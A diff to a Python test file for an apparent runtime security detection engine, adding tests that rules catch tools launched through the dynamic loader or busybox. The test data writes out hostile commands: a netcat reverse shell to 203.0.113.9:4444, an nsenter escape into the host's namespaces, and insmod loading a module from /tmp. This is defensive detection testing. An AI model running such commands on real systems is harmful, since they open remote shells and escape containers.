@@ -319,3 +319,48 @@ def test_exec_flood_does_not_detach_a_local_session_broke() -> None:
         line(_local_exec("/usr/bin/nsenter", "-t 1 -a sh", 3000, "bnNl", (101, "d2FpdA==")))
     )
     assert [(a.rule_id, a.session.session_id) for a in alerts] == [("nsenter-target", "s-local")]
+
+
+# --- running a tool through the dynamic loader or a busybox applet -----------------------
+
+
+@pytest.mark.parametrize(
+    ("binary", "arguments", "rule"),
+    [
+        ("/lib64/ld-linux-x86-64.so.2", "/usr/bin/nsenter -t 1 -a sh", "nsenter-target"),
+        (
+            "/lib/ld-musl-x86_64.so.1",
+            "--preload /x.so /usr/bin/nsenter -t1 -a sh",
+            "nsenter-target",
+        ),
+        ("/lib64/ld-linux-x86-64.so.2", "--argv0 ls /sbin/insmod /tmp/r.ko", "kernel-module-tool"),
+        ("/lib64/ld-linux-x86-64.so.2", "--inhibit-cache /usr/bin/unshare -r", "unshare-tool"),
+        ("/bin/busybox", "unshare -r sh", "unshare-tool"),
+        ("/bin/busybox", "nc 203.0.113.9 4444 -e /bin/sh", "reverse-shell-netcat"),
+        ("/bin/busybox", "insmod /tmp/r.ko", "kernel-module-tool"),
+    ],
+)
+def test_tool_run_through_the_loader_or_busybox_broke(
+    engine_rules: Any, binary: str, arguments: str, rule: str
+) -> None:
+    """BROKE: rules key on the exec'd binary; ``ld.so /usr/bin/nsenter -t 1`` is an exec of
+    the loader (only payloads in writable places were looked at) and ``busybox nc -e`` an
+    exec of busybox (only its nsenter applet had a rule). The tool the loader or busybox
+    runs is matched as if it had been exec'd."""
+    assert rule in rule_ids(fresh(engine_rules), exec_event(binary, arguments))
+
+
+@pytest.mark.parametrize(
+    ("binary", "arguments"),
+    [
+        ("/lib64/ld-linux-x86-64.so.2", "--list /usr/bin/nsenter"),
+        ("/lib64/ld-linux-x86-64.so.2", "/usr/bin/ls -t /tmp"),
+        ("/bin/busybox", "ls -t /tmp"),
+        ("/bin/busybox", "nc -l -p 8080"),
+        ("/bin/busybox", "--help"),
+    ],
+)
+def test_benign_loader_and_busybox_runs_stay_silent(
+    engine_rules: Any, binary: str, arguments: str
+) -> None:
+    assert not rule_ids(fresh(engine_rules), exec_event(binary, arguments))
